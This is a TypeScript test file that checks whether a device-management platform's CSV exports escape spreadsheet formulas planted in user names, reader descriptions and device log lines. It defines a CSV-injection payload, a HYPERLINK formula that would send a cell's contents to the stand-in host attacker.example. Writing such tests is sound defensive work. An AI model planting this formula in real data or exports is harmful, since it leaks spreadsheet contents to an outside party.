import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deviceAuthorization } from '../../contract/device-api';
import { ADMIN, startPlatform, type ApiCaller, type TestPlatform } from './harness';
import { approvedReader, deviceEvent, type TestReader } from './events/helpers';

/**
 * Spreadsheet formulas planted in data that reaches a CSV export (a user's
 * own name, a reader's description or log line) are written as text in every
 * export, never as a formula a spreadsheet would run.
 */
const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")';
const ESCAPED = `'${FORMULA}`;

let p: TestPlatform;
let admin: ApiCaller;
let reader: TestReader;
let contoso: number;
beforeAll(async () => {
    p = await startPlatform();
    admin = await p.as(ADMIN.email);
    contoso = p.demo.customers[0].id;
    reader = await approvedReader(p, admin, contoso, 'Lobby');
});
afterAll(() => p?.close());

/** The CSV as a spreadsheet reads it: the planted text must not start a cell. */
const expectEscaped = (csv: string) => {
    expect(csv).toContain(ESCAPED.replaceAll('"', '""'));
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
};

describe('CSV exports', () => {
    it('the audit log export escapes a name the lowest role gave itself', async () => {
        const user = p.demo.customers[0].users.user;
        const self = await p.as(user.email);
        const current = (await self('GET', `/users/${user.id}`)).json();
        const renamed = await self('PUT', `/users/${user.id}`, {
            name: FORMULA,
            email: current.email,
            role: current.role,
            account: current.account,
        });
        expect(renamed.statusCode, renamed.body).toBe(200);
        // Signed in again, the user is recorded under the new name.
        await p.as(user.email);
        const csv = (await admin('GET', `/audit_logs/export?account_id=${contoso}`)).body;
        expectEscaped(csv);
    });

    it('the device configuration, device log and statistics exports escape a reader description and log line', async () => {
        const device = (await admin('GET', `/devices/${reader.id}?account_id=${contoso}`)).json();
        const edited = await admin('PUT', `/devices/${reader.id}`, { ...device, account_id: contoso, description: FORMULA });
        expect(edited.statusCode, edited.body).toBe(200);
        const logged = await p.app.inject({
            method: 'POST',
            url: '/api/v2/device/logs',
            headers: { authorization: deviceAuthorization(reader.id, reader.key) },
            payload: { entries: [{ timestamp: new Date().toISOString(), level: 'info', message: FORMULA }] },
        });
        expect(logged.statusCode, logged.body).toBeLessThan(300);
        expect((await reader.post({ events: [deviceEvent()] })).statusCode).toBe(200);

        expectEscaped((await admin('GET', `/devices/bulk/config/export?device_ids=${reader.id}&account_id=${contoso}`)).body);
        expectEscaped((await admin('GET', `/devices/${reader.id}/logs/export?account_id=${contoso}`)).body);
        expectEscaped((await admin('GET', `/events/aggregate/export?group_by=device&account_id=${contoso}`)).body);
    });
});
